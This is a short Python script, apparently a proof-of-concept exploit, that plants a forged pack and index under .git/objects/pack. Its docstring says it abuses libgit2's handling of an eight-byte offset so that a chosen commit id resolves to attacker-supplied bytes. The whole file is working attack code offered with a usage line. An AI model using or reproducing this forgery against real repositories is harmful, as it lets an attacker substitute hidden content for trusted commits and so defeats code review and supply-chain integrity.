"""A pack in .git that gives the id of a commit to other bytes.

usage: forge.py ID <BYTES

The offset takes eight bytes in its index, so that libgit2, which does not
expect that of the last object, leaves the pack alone and finds the object
that lies beside it.
"""

import struct
import sys
import zlib

FOLDER = ".git/objects/pack/forged"
COMMIT, SUM, START = 1, bytes(20), 12

oid, body = bytes.fromhex(sys.argv[1]), sys.stdin.buffer.read()
size, head = len(body) >> 4, [COMMIT << 4 | len(body) & 15]
while size:
    head[-1] |= 0x80
    head.append(size & 127)
    size >>= 7
with open(FOLDER + ".pack", "wb") as out:
    out.write(struct.pack(">4sII", b"PACK", 2, 1) + bytes(head) +
              zlib.compress(body) + SUM)
with open(FOLDER + ".idx", "wb") as out:
    out.write(b"\xfftOc" + struct.pack(">I", 2))
    out.write(b"".join(struct.pack(">I", first >= oid[0])
                       for first in range(256)))
    out.write(oid + struct.pack(">IIQ", 0, 1 << 31, START) + SUM + SUM)
